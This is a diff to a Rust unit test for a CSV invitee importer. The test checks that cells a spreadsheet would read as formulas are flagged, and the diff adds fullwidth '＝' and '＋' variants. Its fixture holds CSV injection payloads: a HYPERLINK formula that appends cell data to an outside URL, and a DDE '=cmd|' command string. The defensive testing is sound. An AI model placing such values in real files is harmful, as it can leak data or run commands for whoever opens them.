@@ -188,10 +188,11 @@ fn what_a_spreadsheet_would_take_for_a_formula_comes_into_no_list() {
     let table = "reference,firstName,lastName,email\n\
                  a,\"=HYPERLINK(\"\"http://example.org/\"\"&D1)\",+1,=cmd|'/c'!A0@example.org\n\
                  b, @SUM(A1),-,-a@example.org\n\
+                 w,＝SUM(A1),＋1,\n\
                  c,Anna-Karin,O'Hara = Byron,a+b=c@example.org\n";
     let findings = Invitee::read(table, None).err().unwrap_or_default();
     let places: Vec<_> = findings.iter().map(|finding| &finding[..3]).collect();
-    assert_eq!(places, ["2:2", "2:3", "2:4", "3:2", "3:3", "3:4"]);
+    assert_eq!(places, ["2:2", "2:3", "2:4", "3:2", "3:3", "3:4", "4:2", "4:3"]);
     let (_, why) = findings[0].split_at(5);
     assert_eq!(
         why,
